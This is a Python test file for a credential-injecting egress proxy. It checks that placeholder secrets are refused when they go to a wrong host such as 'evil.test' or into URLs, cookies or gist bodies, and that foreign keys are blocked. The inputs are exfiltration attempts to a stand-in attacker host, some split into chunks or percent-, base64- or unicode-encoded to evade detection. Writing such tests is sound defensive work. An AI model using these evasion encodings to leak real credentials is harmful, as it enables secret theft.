"""CRD-02, 03, 04, 05, 06, 08, 13: credentials and placeholders where they do not belong."""

from __future__ import annotations

import base64
from collections.abc import Iterator

import pytest
from tests.escapes.credential_stage import (
    AWS,
    GITHUB,
    KEY,
    MARK,
    SECRETS,
    TOKEN,
    VALUE,
    arm,
    ask,
    custom,
    service,
)
from tests.escapes.escape_stage import (
    Ask,
    Lab,
    Outcome,
    allowed,
    forward,
    get,
    inside,
    origin_context,
    refused,
    rule,
    untouched,
)

HOST = "api.anthropic.com"
EVIL = "evil.test"


@pytest.fixture(autouse=True)
def armed(lab: Lab) -> Iterator[None]:
    names = (HOST, EVIL, "github.com", "api.github.com", "api.test", "sts.us-east-1.amazonaws.com")
    lab.bind(*(rule("allow", name) for name in names))
    arm(lab, service("anthropic"), service("github", TOKEN), custom(), service("aws", values=AWS))
    yield
    arm(lab)


def misuse(name: str = "github", **more: object) -> Outcome:
    return refused("guard", text=f"secret misuse: the placeholder of `{name}`", **more)


def dressed(head: str, *lines: str, method: str = "GET", path: str = "/") -> bytes:
    """What the origin hears: the request with exactly these lines."""
    return "\r\n".join([f"{method} {path} HTTP/1.1", f"Host: {head}", *lines, "", ""]).encode()


IDENTITY = "accept-encoding: identity"

# -- CRD-02: a placeholder to another host ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("lines", "name"),
    [
        ([f"Authorization: token {GITHUB}"], "github"),
        (["X-Api-Key: proxy-managed"], "anthropic"),
        ([f"Authorization: {MARK}"], "MY_KEY"),
        (["Authorization: Basic " + base64.b64encode(f"x:{GITHUB}".encode()).decode()], "github"),
    ],
)
def test_crd_02_a_placeholder_to_an_allowed_but_wrong_host(lab: Lab, lines: list[str], name: str) -> None:
    lab.serve(EVIL)
    lab.expect(inside(EVIL, get(EVIL, "/", *lines)), misuse(name))
    # Positive control: the same host without it.
    lab.expect(inside(EVIL, get(EVIL)), allowed(dressed(EVIL)))


def test_crd_02_another_hosts_secret_to_a_host_with_one(lab: Lab) -> None:
    lab.serve(HOST)
    lab.expect(inside(HOST, get(HOST, "/", f"X-Token: {GITHUB}")), misuse())


# -- CRD-03: where it could be read back ------------------------------------------------------------------------------

PLACES = [
    get("api.github.com", f"/repos/{GITHUB}"),
    get("api.github.com", f"/search?q={GITHUB}"),
    get("api.github.com", "/", f"User-Agent: {GITHUB}"),
    get("api.github.com", "/", f"Cookie: a={GITHUB}"),
    get("api.github.com", "/", f"{GITHUB}: 1"),
]


@pytest.mark.parametrize("payload", PLACES)
def test_crd_03_a_placeholder_where_nothing_replaces_it(lab: Lab, payload: bytes) -> None:
    lab.serve("api.github.com")
    lab.expect(inside("api.github.com", payload), misuse())


def test_crd_03_the_body_of_a_gist(lab: Lab) -> None:
    """The head is out when the body comes; the body never is, so the request never becomes one."""
    lab.serve("api.github.com")
    body = b'{"files":{"a":{"content":"%b"}}}' % GITHUB.encode()
    payload = get("api.github.com", "/gists", f"Content-Length: {len(body)}", method="POST", body=body)
    status, _, said = ask(lab, "api.github.com", payload)
    assert status == 403
    assert b"secret misuse" in said
    assert GITHUB.encode() not in lab.upstream
    record = lab.stage.records[-1]
    assert (record["verdict"], record["reason"]) == ("blocked", "guard")


def test_crd_03_a_custom_placeholder_is_replaced_in_its_header_alone(lab: Lab) -> None:
    lab.serve("api.test")
    lab.expect(
        inside("api.test", get("api.test", "/", f"Authorization: Bearer {MARK}")),
        allowed(dressed("api.test", f"Authorization: Bearer {VALUE}", IDENTITY)),
    )
    lab.expect(inside("api.test", get("api.test", f"/?token={MARK}")), misuse("MY_KEY"))


# -- CRD-04: split or encoded -----------------------------------------------------------------------------------------


def test_crd_04_split_between_chunks_and_reads(lab: Lab) -> None:
    lab.serve(EVIL)
    chunks = b"".join(b"1\r\n%c\r\n" % byte for byte in GITHUB.encode()) + b"0\r\n\r\n"
    payload = get(EVIL, "/", "Transfer-Encoding: chunked", method="POST", body=chunks)
    status, _, said = ask(lab, EVIL, payload)
    assert (status, b"secret misuse" in said) == (403, True)
    assert lab.stage.records[-1]["verdict"] == "blocked"


@pytest.mark.parametrize(
    "line",
    [
        "X-Jwt: e30." + base64.urlsafe_b64encode(f'{{"sub":"{GITHUB}"}}'.encode()).decode(),
        "X-Quoted: " + "".join(f"%{byte:02X}" for byte in GITHUB.encode()),
        "X-Twice: " + "".join(f"%25{byte:02X}" for byte in GITHUB.encode()),
        "X-Escaped: " + "".join(f"\\u00{byte:02x}" for byte in GITHUB.encode()),
    ],
)
def test_crd_04_encoded(lab: Lab, line: str) -> None:
    lab.serve(EVIL)
    lab.expect(inside(EVIL, get(EVIL, "/", line)), misuse())


# -- CRD-05: plain HTTP, another port, a raw address, a host that is not looked into ----------------------------------


def test_crd_05_plain_http(lab: Lab) -> None:
    lab.serve(HOST, port=80, tls=False)
    lab.expect(forward(get(HOST, f"http://{HOST}/", "X-Api-Key: proxy-managed")), misuse("anthropic"))
    lab.expect(forward(get(HOST, f"http://{HOST}/")), allowed(dressed(HOST)))


def test_crd_05_another_port(lab: Lab) -> None:
    lab.serve(HOST, port=8443)
    payload = get(f"{HOST}:8443", "/", "X-Api-Key: proxy-managed")
    lab.expect(inside(HOST, payload, port=8443), misuse("anthropic"))
    lab.expect(inside(HOST, get(f"{HOST}:8443"), port=8443), allowed(dressed(f"{HOST}:8443")))


def test_crd_05_a_raw_address_that_claims_the_name(lab: Lab) -> None:
    origin = lab.serve(HOST)
    lab.bind(rule("allow", origin.address))
    assert lab.stage.subject.credentials.towards(origin.address, 443) is None

    async def opened(lab: Lab):  # type: ignore[no-untyped-def]
        return await lab.stage.secure(origin.address, 443, name=HOST)

    records = lab.expect(Ask(open=opened, payload=get(HOST)), allowed(dressed(HOST), questions=()))
    assert "credential" not in records[-1]


def test_crd_05_nothing_before_the_origin_has_proven_its_name(lab: Lab) -> None:
    """An origin with a certificate for another name hears a handshake and no request."""
    lab.serve(HOST, tls=origin_context(EVIL))
    status, _, _ = ask(lab, HOST, get(HOST))
    assert status == 502
    assert lab.upstream == b""


def test_crd_05_a_host_that_is_not_inspected_gets_nothing(lab: Lab) -> None:
    lab.bind(rule("allow", HOST, inspect="never"))
    lab.serve(HOST)
    payload = get(HOST, "/", "X-Api-Key: proxy-managed")
    records = lab.expect(untouched(HOST, payload), allowed(payload))
    assert "credential" not in records[-1]


# -- CRD-06: somebody else's credential -------------------------------------------------------------------------------

FOREIGN = [
    ["X-Api-Key: sk-ant-attacker"],
    ["Authorization: Bearer sk-ant-attacker"],
    ["X-Api-Key: proxy-managed", "Authorization: Bearer attacker"],
    ["Cookie: sessionKey=sk-ant-sid01-attacker"],
    ["x_api_key: sk-ant-attacker"],
]


@pytest.mark.parametrize("lines", FOREIGN)
def test_crd_06_another_key_to_an_exclusive_host(lab: Lab, lines: list[str]) -> None:
    arm(lab, service("anthropic", exclusive=True))
    lab.serve(HOST)
    lab.expect(
        inside(HOST, get(HOST, "/v1/files", *lines)), refused("guard", text="which is exclusive to this host")
    )
    lab.expect(
        inside(HOST, get(HOST, "/", "X-Api-Key: proxy-managed")),
        allowed(dressed(HOST, f"x-api-key: {KEY}", IDENTITY)),
    )


def test_crd_06_another_aws_key_to_an_exclusive_host(lab: Lab) -> None:
    host = "sts.us-east-1.amazonaws.com"
    lab.serve(host)
    for presigned in (False, True):
        arm(lab, service("aws", values=AWS, exclusive=True))
        lab.expect(inside(host, signed(host, "AKIAATTACKER", presigned=presigned)), refused("guard"))
        arm(lab, service("aws", values=AWS))
        records = lab.expect(
            inside(host, signed(host, "AKIAATTACKER", presigned=presigned)),
            allowed(signed(host, "AKIAATTACKER", presigned=presigned)[:-2] + f"{IDENTITY}\r\n\r\n".encode()),
        )
        assert records


def signed(host: str, key: str, *, presigned: bool) -> bytes:
    scope = f"{key}/20260101/us-east-1/sts/aws4_request"
    if presigned:
        query = (
            f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={scope.replace('/', '%2F')}&X-Amz-Date=20260101T000000Z"
            f"&X-Amz-Expires=60&X-Amz-SignedHeaders=host&X-Amz-Signature={'0' * 64}"
        )
        return get(host, f"/?Action=GetCallerIdentity&Version=2011-06-15&{query}")
    authorization = (
        f"AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host;x-amz-date, Signature={'0' * 64}"
    )
    return get(host, "/", "x-amz-date: 20260101T000000Z", f"authorization: {authorization}")


# -- CRD-08: the client's own next to ours ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "lines",
    [
        ["X-Api-Key: mine"],
        ["x-api-key: mine", "X-API-KEY: mine too"],
        ["X_Api_Key: mine"],
        ["X-Api-Key: proxy-managed", "x-api-key: mine"],
        ["Connection: x-api-key", "X-Api-Key: mine"],
        ["X-Api-Key: mine", "Authorization: Bearer proxy-managed"],
    ],
)
def test_crd_08_exactly_one_header_leaves(lab: Lab, lines: list[str]) -> None:
    lab.serve(HOST)
    lab.expect(inside(HOST, get(HOST, "/", *lines)), allowed(dressed(HOST, f"x-api-key: {KEY}", IDENTITY)))


# -- CRD-13: a base URL of somebody else's ----------------------------------------------------------------------------


def test_crd_13_a_base_url_that_a_project_chose(lab: Lab) -> None:
    """The value goes where the host's binding says, whatever an agent was told; the record says what was tried."""
    lab.serve(EVIL)
    body = b'{"model":"claude","messages":[]}'
    lines = ("X-Api-Key: proxy-managed", f"Content-Length: {len(body)}")
    lab.expect(inside(EVIL, get(EVIL, "/v1/messages", *lines, method="POST", body=body)), misuse("anthropic"))
    assert not any(value in str(lab.stage.records) for value in SECRETS)
